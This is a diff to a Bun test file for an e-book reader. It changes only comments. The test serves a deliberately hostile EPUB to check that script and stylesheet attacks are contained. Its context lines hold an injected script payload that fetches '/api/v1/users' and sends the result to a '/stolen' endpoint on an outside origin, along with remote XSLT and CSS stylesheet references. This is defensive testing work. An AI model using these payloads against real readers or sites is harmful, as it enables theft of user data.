@@ -18,7 +18,7 @@ let evil: ReturnType<typeof Bun.serve>
 const leaks: string[] = []
 
 beforeAll(async () => {
-  // Every request of a malicious book arrives here.
+  // Receives every request that the malicious book manages to send.
   evil = Bun.serve({
     port: 0,
     hostname: '127.0.0.1',
@@ -35,7 +35,7 @@ afterAll(async () => {
   await evil?.stop(true)
 })
 
-/** Each vector reports itself to the server at `origin` or sets a mark on the window. */
+/** Builds a book with many attack vectors. Each sends a request or sets `hacked` on the window. */
 function hostileBook(origin: string): Parameters<typeof makeTinyEpub>[0] {
   const mark = `top.hacked = true; parent.hacked = true; new Image().src = '${origin}/script'; fetch('/api/v1/users').then((answer) => fetch('${origin}/stolen'))`
   const html = `
@@ -82,7 +82,7 @@ function hostileBook(origin: string): Parameters<typeof makeTinyEpub>[0] {
   return { title: 'Hostile', chapters, files }
 }
 
-/** XSLT stylesheets that would rewrite the whole document. */
+/** Builds references to stylesheets. The XSLT ones would rewrite the whole document. */
 const buildStylesheets = (origin: string) =>
   `<?xml-stylesheet type="text/xsl" href="evil.xsl"?><?xml-stylesheet type="text/xsl" href="${origin}/sheet.xsl"?><?xml-stylesheet type="text/css" href="${origin}/sheet.css"?>`
 
@@ -131,7 +131,7 @@ test(
   timeoutMs,
 )
 
-/** The last chapter gives the others time to act. */
+/** Chapters to open and their text. The last one is harmless, so earlier attacks have time. */
 const chapters = [
   ['Two', 'Chapter 2.'],
   ['Three', 'Chapter 3.'],
